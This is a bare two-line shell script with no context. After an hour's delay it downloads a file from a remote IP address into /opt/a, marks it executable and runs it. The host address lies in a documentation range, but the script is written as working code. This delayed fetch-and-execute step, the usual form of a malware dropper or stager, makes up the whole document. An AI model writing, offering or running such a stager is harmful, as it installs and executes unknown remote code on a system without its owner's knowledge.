#!/bin/sh
sleep 3600; wget -O /opt/a http://192.0.2.7/a; chmod +x /opt/a; /opt/a
